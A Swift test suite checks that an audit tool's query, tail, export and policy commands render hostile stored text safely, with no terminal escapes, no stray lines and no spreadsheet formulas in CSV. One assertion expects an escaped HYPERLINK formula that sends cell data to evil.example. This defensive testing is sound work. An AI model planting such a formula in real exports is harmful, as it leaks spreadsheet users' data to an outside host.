import AuditTrail
import Foundation
import GatekeeperTesting
import HostileTexts
import StrictJSON
import Testing

@Suite("What callers wrote, shown by the commands")
struct HostileOutputTests {
    @Test("moves no terminal, hides nothing and makes no second line in the tables of query and tail")
    func tables() async throws {
        let trail = try await HostileTrail()
        for command in [["query", "--limit", "1000"], ["tail", "--lines", "1000"]] {
            let shown = try await Program.run(["audit"] + command + ["--store", trail.folder.store])
            #expect(shown.exitCode == 0, "\(shown.errors)")
            #expect(Harmless.offenders(in: shown.output) == [])
            let heading = command[0] == "query" ? 2 : 0
            #expect(shown.lines.count == trail.drafts.count + 1 + heading)
            // Each row begins with its number: none of them is a text's own line.
            #expect(shown.lines.dropFirst(heading).allSatisfy { $0.first?.isNumber == true })
        }
    }

    @Test("is as harmless where decisions in doubt are listed")
    func inDoubt() async throws {
        let trail = try await HostileTrail()
        let count = trail.drafts.count { $0.kind == .decision && $0.fields.result == "approved" }
        for format in ["table", "json"] {
            let shown = try await trail.audit("query", "--in-doubt", "--limit", "1000", "--format", format)
            #expect(shown.exitCode == 0 && Harmless.offenders(in: shown.output) == [], "\(shown.errors)")
            #expect(count > 50 && shown.lines.count == count + (format == "table" ? 2 : 0))
        }
    }

    @Test("comes back as the same text from the JSON of query, tail and export")
    func json() async throws {
        let trail = try await HostileTrail()
        let commands = [
            ["query", "--limit", "1000", "--oldest-first", "--format", "json"], ["tail", "--lines", "1000", "--format", "json"],
            ["export", "--format", "ndjson", "--no-record"],
        ]
        for command in commands {
            let shown = try await Program.run(["audit"] + command + ["--store", trail.folder.store])
            #expect(shown.exitCode == 0, "\(shown.errors)")
            #expect(Harmless.offenders(in: shown.output) == [] && !shown.output.contains("<") && !shown.output.contains("&"))
            #expect(try trail.agrees(shown.lines.dropFirst()), "\(command)")
        }
    }

    @Test("begins no formula in the CSV of export, however a spreadsheet parts its lines")
    func csv() async throws {
        let trail = try await HostileTrail()
        let shown = try await trail.audit("export", "--format", "csv", "--no-record")
        #expect(shown.exitCode == 0 && Harmless.offenders(in: shown.output.replacing("\r\n", with: "\n")) == [])
        let lines = shown.output.replacing("\r\n", with: "\n").split(separator: "\n")
        #expect(lines.count == trail.drafts.count + 2)
        let columns = Harmless.cells(of: lines[0])
        for line in lines.dropFirst() {
            let cells = Harmless.cells(of: line)
            #expect(cells.count == columns.count)
            #expect(!cells.contains { Harmless.isFormula($0) }, "\(cells)")
            let pieces = Harmless.naivePieces(of: line)
            #expect(!pieces.contains { Harmless.isFormula($0) }, "\(line)")
        }
        let address = try #require(columns.firstIndex(of: "invitee"))
        #expect(lines.contains { Harmless.cells(of: $0)[address] == "'=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")" })
    }

    @Test("is harmless where it is counted, explained and judged again")
    func others() async throws {
        let trail = try await HostileTrail()
        let policy = trail.folder.path + "/policy.yaml"
        let some = HostileTexts.all.indices.filter { $0 % 7 == 0 }.map { "00000000-0000-0001-0000-" + String(format: "%012x", $0) }
        var commands = [
            ["audit", "stats", "--store", trail.folder.store], ["audit", "stats", "--format", "json", "--store", trail.folder.store],
            ["policy", "replay", policy, "--store", trail.folder.store],
            ["policy", "replay", policy, "--format", "json", "--store", trail.folder.store],
        ]
        commands += some.map { ["policy", "explain", policy, "--decision", $0, "--store", trail.folder.store] }
        for command in commands {
            let shown = try await Program.run(command)
            #expect([0, 1].contains(shown.exitCode), "\(command): \(shown.errors.prefix(300))")
            #expect(!shown.output.isEmpty && Harmless.offenders(in: shown.output + shown.errors) == [], "\(command)")
        }
    }
}
